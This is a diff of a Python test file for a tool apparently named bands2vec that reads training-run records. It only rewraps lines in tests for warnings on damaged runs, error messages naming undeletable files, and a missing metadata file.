@@ -854,18 +899,21 @@ def test_a_damaged_newest_run_does_not_block_the_questions_of_a_log_folder(demo_
         os.utime(logs / name / run_record.RUN_FILE, (time.time() + age,) * 2)
     with pytest.warns(UserWarning) as said:
         assert bands2vec.open_run(str(logs)).folder == str(demo_copy)
-    assert [str(warning.message).split(": ")[0] for warning in said] == [f"skipped {logs / 'newest'}",
-                                                                          f"skipped {logs / 'newer'}"]
-    assert all(str(warning.message).endswith(f"; answering from {demo_copy}, the newest run that can answer")
+    assert [str(warning.message).split(": ")[0] for warning in said] == [
+        f"skipped {logs / 'newest'}", f"skipped {logs / 'newer'}"]
+    assert all(str(warning.message).endswith(f"; answering from {demo_copy}, the newest run that "
+                                             f"can answer")
                and "unreadable run.json (not JSON" in str(warning.message) for warning in said)
     (demo_copy / run_record.RUN_FILE).write_text("[]")
-    with pytest.raises(RunError, match=f"^{logs / 'newest'}: unreadable run.json"):  # none can: the newest's
+    # none can: the newest's
+    with pytest.raises(RunError, match=f"^{logs / 'newest'}: unreadable run.json"):
         run_folder.find_run(str(logs), usable=True)
 
 
 def test_a_file_overwrite_cannot_remove_is_named_by_its_path(tmp_path, monkeypatch):
-    """One put there after the check (the check is test_overwrite_of_a_run_holding_another_users_folder...):
-    shutil.rmtree names it `f`, by its name only."""
+    """One put there after the check (the check is
+    test_overwrite_of_a_run_holding_another_users_folder...): shutil.rmtree names it `f`, by its
+    name only."""
     folder = tmp_path / "r"
     (folder / "junk").mkdir(parents=True)
     (folder / "junk" / "f").write_text("x")
@@ -884,9 +932,10 @@ def test_a_file_overwrite_cannot_remove_is_named_by_its_path(tmp_path, monkeypat
 
 
 def test_a_finished_run_without_its_metadata_says_so(demo_copy):
-    """Probe 16: `no vectors to ask yet (its state: finished); tensorboard --logdir ...`, which restores nothing."""
+    """Probe 16: `no vectors to ask yet (its state: finished); tensorboard --logdir ...`, which
+    restores nothing."""
     (demo_copy / metadata.METADATA_FILE).unlink()
     with pytest.raises(RunError) as refused:
         run_folder.find_run(str(demo_copy.parent), "r", usable=True)
-    assert str(refused.value) == (f"{demo_copy}: a finished run without its metadata.tsv, which labels its "
-                                  f"vectors and only its training writes: put it back")
+    assert str(refused.value) == (f"{demo_copy}: a finished run without its metadata.tsv, which "
+                                  f"labels its vectors and only its training writes: put it back")
